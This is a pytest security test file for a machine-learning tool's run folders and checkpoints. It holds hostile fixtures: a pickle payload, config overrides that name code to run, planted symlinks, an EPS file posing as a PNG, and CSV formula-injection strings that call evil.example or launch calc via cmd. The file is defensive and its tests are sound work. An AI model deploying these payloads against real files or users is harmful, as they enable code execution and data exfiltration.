"""A run folder is untrusted input: the attacks that worked on a run folder or checkpoint someone else made (code
execution through resume, writes outside the folder through planted links, a stored config that reaches the
network, formulas in CSV files, an image that is not one) each end in one `dlx: error:` line, or do nothing."""

from __future__ import annotations

import csv
import json
import pickle
import shutil
import socket
import threading
from pathlib import Path

import pytest
import torch
from conftest import TINY, run_cfg
from datafiles import write_csv, write_images
from omegaconf import OmegaConf

from dlx import checkpoint, cli, runfolder
from dlx.data import DataError, image_folder


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    run_dir = tmp_path_factory.mktemp("trained") / "run"
    run_cfg([*TINY, "dataset.subset=200"], run_dir)
    return run_dir


def hostile_run(trained: Path, tmp_path: Path, overrides: list[str]) -> Path:
    """A copy of the trained run, not finished (so resume goes on), whose saved overrides are ``overrides``."""
    run = tmp_path / "hostile"
    shutil.copytree(trained, run)
    (run / "result.json").unlink()
    (run / ".hydra").mkdir(exist_ok=True)  # run_cfg trains in-process, without Hydra's files
    (run / ".hydra" / "config.yaml").write_text(OmegaConf.to_yaml(OmegaConf.create({"seed": 0})))
    (run / ".hydra" / "overrides.yaml").write_text("".join(f"- {json.dumps(o)}\n" for o in overrides))
    return run


def refused(argv: list[str], capsys, *needles: str) -> str:
    code = cli.main(argv)
    err = capsys.readouterr().err
    lines = [line for line in err.splitlines() if line.strip()]
    assert code == 2, err
    assert len(lines) == 1 and lines[0].startswith("dlx: error: "), err
    assert all(n in lines[0] for n in needles), err
    return lines[0]


class Payload:
    """What a pickle can do when it is unpickled: here, create a file."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return open, (str(self.marker), "w")


# ---- resume=<folder> ------------------------------------------------------------------------------------------

def test_resume_never_replays_a_saved_experimental_rerun(trained, tmp_path, capsys):
    marker, pickled = tmp_path / "pwned", tmp_path / "config.pickle"
    pickled.write_bytes(pickle.dumps(Payload(marker)))
    run = hostile_run(trained, tmp_path, [f"--experimental-rerun={pickled}", *TINY])
    refused(["train", f"resume={run}"], capsys, "--experimental-rerun")
    assert not marker.exists()


def test_resume_never_replays_a_saved_config_dir(trained, tmp_path, capsys):
    marker = tmp_path / "pwned"
    (tmp_path / "evil" / "dataset").mkdir(parents=True)
    (tmp_path / "evil" / "dataset" / "evil.yaml").write_text(
        f"_target_: numpy.savetxt\nfname: {marker}\nX: [1]\n")
    run = hostile_run(trained, tmp_path, [f"--config-dir={tmp_path / 'evil'}", "dataset=evil", *TINY])
    refused(["train", f"resume={run}"], capsys, "--config-dir")
    assert not marker.exists()


@pytest.mark.parametrize("override", [
    "+model.x={_target_: numpy.savetxt, fname: VICTIM, X: [1]}",  # the issue's: a nested _target_ in a value
    "+model.x=[{a: {_target_: numpy.savetxt, fname: VICTIM, X: [1]}}]",  # deeper, inside a list
    "dataset=EVIL",  # a config group option that climbs out of the config folders to a YAML elsewhere
])
def test_resume_refuses_saved_overrides_that_name_code(trained, tmp_path, capsys, override):
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me")
    evil = tmp_path / "elsewhere" / "evil.yaml"
    evil.parent.mkdir()
    evil.write_text(f"_target_: numpy.savetxt\nfname: {victim}\nX: [1]\n")
    climb = "../" * 12 + str(evil.with_suffix("")).lstrip("/")
    run = hostile_run(trained, tmp_path, [*TINY, override.replace("VICTIM", str(victim)).replace("EVIL", climb)])
    refused(["train", f"resume={run}"], capsys, "overrides.yaml")
    assert victim.read_text() == "keep me"


@pytest.mark.parametrize("override", ["dataset.root=${oc.env:HOME}", "optim.lr='${optim.momentum}'",
                                      "hydra/launcher=basic", "~trainer.grad_clip", "model@x=cnn"])
def test_resume_takes_only_plain_key_value_overrides(trained, tmp_path, capsys, override):
    run = hostile_run(trained, tmp_path, [*TINY, override])
    refused(["train", f"resume={run}"], capsys, "overrides.yaml", override.split("=")[0])


def test_resume_does_not_report_to_a_study_the_folder_names(trained, tmp_path):
    from dlx.preflight import resume_args

    journal = tmp_path / "elsewhere" / "any.journal"  # Optuna would append to it (or reach a database server)
    run = hostile_run(trained, tmp_path, [*TINY, f"trial={{storage:'{journal}',study:s,number:0}}"])
    args = resume_args([f"resume={run}"])
    assert not [a for a in args if a.startswith("trial=")] and TINY[0] in args


def test_resume_of_a_plain_folder_still_works(trained, tmp_path):
    run = hostile_run(trained, tmp_path, [*TINY, "+trainer.note=1", "optim.lr=0.01", "regularization=[l2]"])
    from dlx.preflight import saved_overrides

    assert saved_overrides(run / ".hydra" / "overrides.yaml")[-3:] == ["+trainer.note=1", "optim.lr=0.01",
                                                                       "regularization=[l2]"]


# ---- links planted in a run folder ------------------------------------------------------------------------------

@pytest.mark.parametrize("name", [".lock", "train.log", ".hydra/config.yaml", "result.json", "checkpoints/best.pt"])
def test_resume_refuses_a_folder_with_a_planted_link(trained, tmp_path, capsys, name):
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me")
    run = hostile_run(trained, tmp_path, TINY)
    (run / name).unlink(missing_ok=True)
    (run / name).symlink_to(victim)
    code = cli.main(["train", f"resume={run}"])
    assert victim.read_text() == "keep me"  # on 01b9618 the pid, Hydra's log or its config went into it
    err = capsys.readouterr().err.strip()
    assert code == 2 and err.startswith("dlx: error: ") and len(err.splitlines()) == 1, err
    assert "symbolic link" in err and name.split("/")[-1] in err, err


def test_the_lock_never_follows_a_link(tmp_path):
    from dlx.train import lock

    victim = tmp_path / "precious.txt"
    victim.write_text("keep me")
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / ".lock").symlink_to(victim)
    with pytest.raises(runfolder.RunFolderError, match="symbolic link"):
        with lock(tmp_path / "run"):
            pass
    assert victim.read_text() == "keep me"


def fake_run(folder: Path, overrides: list[str], status="completed", error=None, acc=0.5) -> Path:
    folder.mkdir(parents=True)
    result = {"status": status, "final": {"val/acc": acc}, "best": {"val/acc": acc}, "epochs": 1, "steps": 10,
              "wall_s": 1.0, "samples_per_s": 1.0, "seed": 0, "overrides": overrides, "metric": "val/acc",
              "error": error}
    (folder / "result.json").write_text(json.dumps(result))
    return folder


@pytest.mark.parametrize("command,temp", [("compare", ".summary.md.tmp"), ("compare", ".summary.csv.tmp"),
                                          ("report", ".report.html.tmp")])
def test_compare_and_report_write_no_temp_file_through_a_planted_link(tmp_path, command, temp):
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me")
    sweep = tmp_path / "sweep"
    fake_run(sweep / "0", ["optim.lr=0.1"])
    fake_run(sweep / "1", ["optim.lr=0.01"], acc=0.6)
    (sweep / temp).symlink_to(victim)
    assert cli.main([command, str(sweep), "--no-plot"] if command == "compare" else [command, str(sweep)]) == 0
    assert victim.read_text() == "keep me"
    assert not [p for p in sweep.iterdir() if p.name.endswith(".tmp") and not p.is_symlink()]  # none left behind


def test_compare_refuses_a_summary_file_that_is_a_link(tmp_path, capsys):
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me")
    sweep = tmp_path / "sweep"
    fake_run(sweep / "0", ["optim.lr=0.1"])
    (sweep / "summary.csv").symlink_to(victim)
    refused(["compare", str(sweep), "--no-plot"], capsys, "symbolic link")
    assert victim.read_text() == "keep me" and (sweep / "summary.csv").is_symlink()


# ---- checkpoints: the network, folders, checksums ------------------------------------------------------------------

def with_config(trained: Path, tmp_path: Path, edit, name="hostile.pt", checksum=True) -> Path:
    """The trained run's last.pt with its stored config changed by ``edit(cfg)``."""
    state = checkpoint.load(trained / "checkpoints" / "last.pt")
    cfg = OmegaConf.create(state["config"])
    edit(cfg)
    state["config"] = OmegaConf.to_yaml(cfg)
    path = tmp_path / name
    if checksum:
        checkpoint.save(path, state)
    else:
        state.pop("checksum", None)
        torch.save(state, path)
    return path


@pytest.fixture
def server():
    """A TCP port on this machine that counts the connections made to it (and closes each at once)."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.settimeout(0.2)
    hits, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            hits.append(1)
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{sock.getsockname()[1]}", hits
    stop.set()
    thread.join()
    sock.close()


def test_eval_of_a_stored_config_never_downloads_or_makes_folders(trained, tmp_path, server, capsys):
    url, hits = server
    root = tmp_path / "made" / "by" / "the checkpoint"
    bad = with_config(trained, tmp_path, lambda c: OmegaConf.update(
        c, "dataset", {"_target_": "dlx.data.mnist.load", "root": str(root), "mirrors": [url]}, merge=False))
    refused(["eval", str(bad), "--device", "cpu"], capsys, "download")
    assert not hits and not (tmp_path / "made").exists()
    assert cli.main(["eval", str(bad), "--device", "cpu", "--download"]) == 2  # asked for: it tries
    assert hits and root.is_dir()


def test_a_checkpoint_without_its_checksum_is_refused_unless_allowed(trained, tmp_path, capsys):
    bad = with_config(trained, tmp_path, lambda c: None, checksum=False)
    refused(["eval", str(bad), "--device", "cpu"], capsys, "no checksum", "--allow-unchecked")
    assert cli.main(["eval", str(bad), "--device", "cpu", "--allow-unchecked"]) == 0
    with pytest.raises(checkpoint.CheckpointError, match="no checksum"):  # training never takes one
        checkpoint.load(bad)


# ---- spreadsheets ---------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_cells_that_a_spreadsheet_would_evaluate_are_text(cell):
    assert runfolder.csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-0.5", "-3", "+2.5e-3", "-inf", "nan", "abc", "a=b", 7, -0.5])
def test_numbers_and_plain_text_stay_as_they_are(cell):
    assert runfolder.csv_cell(cell) == cell


def test_predictions_csv_holds_no_formula(tmp_path):
    names = ['=HYPERLINK("http://evil.example","x")', "@SUM(1)"]
    rows = ["a,b,label"] + [f"{i % 7},{(i * 3) % 5},\"{names[i % 2].replace(chr(34), chr(34) * 2)}\""
                            for i in range(80)]
    write_csv(tmp_path / "train.csv", rows)
    run_cfg([*TINY, "dataset=csv", f"dataset.path={tmp_path / 'train.csv'}", "dataset.label=label"], tmp_path / "run")
    out = tmp_path / "predictions.csv"
    assert cli.main(["predict", str(tmp_path / "run"), str(tmp_path / "train.csv"), "--out", str(out),
                     "--device", "cpu"]) == 0
    cells = [c for row in csv.reader(out.open()) for c in row]
    assert not [c for c in cells if c.startswith(runfolder.FORMULA_START) and c.strip("-+.e0123456789")], cells
    assert f"'{names[0]}" in cells or f"'{names[1]}" in cells


def test_summary_and_runs_csv_hold_no_formula(tmp_path):
    sweep = tmp_path / "sweep"
    fake_run(sweep / "0", ['+note==HYPERLINK("http://evil.example")', "optim.lr=0.1"])
    fake_run(sweep / "1", ["@SUM(1)=2", "optim.lr=0.01"], status="failed", error="=cmd|' /C calc'!A0")
    fake_run(sweep / "2", ["-x=1", "optim.lr=0.001"], acc=-0.5)
    assert cli.main(["compare", str(sweep), "--no-plot"]) == 0
    for name in ("summary.csv", "runs.csv"):
        cells = [c for row in csv.reader((sweep / name).open()) for c in row]
        formulas = [c for c in cells if c.startswith(runfolder.FORMULA_START) and not runfolder._NUMBER.fullmatch(c)]
        assert not formulas, (name, formulas)
    assert "-0.5" in [c for row in csv.reader((sweep / "runs.csv").open()) for c in row]  # a number stays one


# ---- images by content ------------------------------------------------------------------------------------------

EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 8 8\n%%EndComments\nnewpath 0 0 moveto 8 8 lineto stroke\n"


def test_an_image_is_opened_only_as_png_or_jpeg_whatever_its_name(tmp_path, monkeypatch):
    from PIL import EpsImagePlugin

    reached = []
    original = EpsImagePlugin.EpsImageFile._open
    monkeypatch.setattr(EpsImagePlugin.EpsImageFile, "_open", lambda self: reached.append(1) or original(self))
    write_images(tmp_path / "imgs", {"a": 3, "b": 3})
    fake = tmp_path / "imgs" / "a" / "2.png"
    fake.write_bytes(EPS)
    with pytest.raises(DataError, match="not PNG or JPEG") as e:
        image_folder.read_files([fake], (8, 8), 3)
    assert not reached and len(str(e.value).splitlines()) == 1  # Pillow's EPS plugin (Ghostscript) never runs


# ---- the one gate for stored configs ----------------------------------------------------------------------------

def test_the_gate_resolves_what_dlx_writes():
    text = ("strength: mid\nstrengths: {weak: {input: 0.0}, mid: {input: 0.1}}\n"
            "regularization: {dropout: {input: '${strengths.${strength}.input}', hidden: '${.input}'}}\n"
            "optim: {_target_: torch.optim.Adam, lr: 0.1, label: 'lr ${optim.lr}'}\n")
    c = checkpoint.stored_config(text, "T", {"torch.optim.Adam"})
    assert c["regularization"]["dropout"] == {"input": 0.1, "hidden": 0.1} and c["optim"]["label"] == "lr 0.1"


WIDE = "a0: xxxxxxxxxx\n" + "".join(f"a{i}: '" + f"${{a{i - 1}}}" * 10 + "'\n" for i in range(1, 7))


@pytest.mark.parametrize("text,why", [
    (WIDE, "resolves to"),  # 10**7 characters from 60 bytes, 6 levels deep
    ("a: ${oc.env:HOME}\n", "resolvers"), ("a: '\\${oc.env:HOME}'\nb: ${a}\n", "resolvers"),
    ("a: ${b}\nb: ${a}\n", "circle"), ("m: {f: '${m}'}\n", "circle"), ("a: '${${x}}'\nx: a\n", "circle"),
    ("a: !!binary aGk=\n", "bytes"), ("- 1\n", "list"), ("m: {_target_: builtins.exec}\n", "builtins.exec"),
    ("a: ${nope}\n", "does not resolve"),
])
def test_the_gate_refuses(text, why):
    with pytest.raises(checkpoint.CheckpointError, match=why):
        checkpoint.stored_config(text, "T", set())
